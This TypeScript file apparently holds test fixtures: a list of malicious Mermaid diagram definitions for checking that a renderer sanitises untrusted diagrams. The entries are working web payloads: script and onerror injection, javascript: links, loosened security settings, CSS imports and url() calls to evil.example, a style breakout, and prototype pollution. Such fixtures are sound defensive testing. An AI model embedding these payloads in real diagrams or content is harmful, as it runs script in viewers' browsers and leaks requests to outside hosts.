/** What whoever writes a diagram may try on whoever has it drawn. */
export const DIAGRAM_ATTACKS = [
  'flowchart TD\n  A-->B\n  click A "javascript:top.hacked=1" "go"',
  'flowchart TD\n  A["<img src=https://evil.example/1 onerror=top.hacked=1>"]',
  "flowchart TD\n  A[\"<script>top.hacked=1;fetch('https://evil.example/2')</script>\"]",
  "flowchart TD\n  A[\"<iframe srcdoc='<script>top.hacked=1</script>'></iframe>\"]",
  '%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\nflowchart TD\n  A["<img src=https://evil.example/3 onerror=top.hacked=1>"]',
  '%%{init: {"themeCSS": "@import url(https://evil.example/4); * { background: url(https://evil.example/5) }"}}%%\nflowchart TD\n  A-->B',
  '%%{init: {"fontFamily": "a;}</style><img src=https://evil.example/6 onerror=top.hacked=1>"}}%%\nflowchart TD\n  A-->B',
  '---\nconfig:\n  securityLevel: loose\n  themeCSS: "* { background: url(https://evil.example/7) }"\n---\nflowchart TD\n  A-->B',
  '%%{init: {"__proto__": {"hacked": 1}, "constructor": {"prototype": {"hacked": 1}}}}%%\nflowchart TD\n  A-->B',
  "flowchart TD\n  A-->B\n  style A fill:url(https://evil.example/8),background:u\\72l(https://evil.example/9)",
  'flowchart TD\n  A@{ img: "https://evil.example/10", label: "x", w: 60, h: 60 }',
  'sequenceDiagram\n  participant A\n  links A: {"go": "javascript:top.hacked=1"}\n  A->>A: <img src=https://evil.example/11 onerror=top.hacked=1>',
  "classDiagram\n  class Shape\n  click Shape call top.hacked(1)",
  'gantt\n  dateFormat YYYY-MM-DD\n  section S\n  T :a1, 2026-01-01, 3d\n  click a1 href "javascript:top.hacked=1"',
] as const;
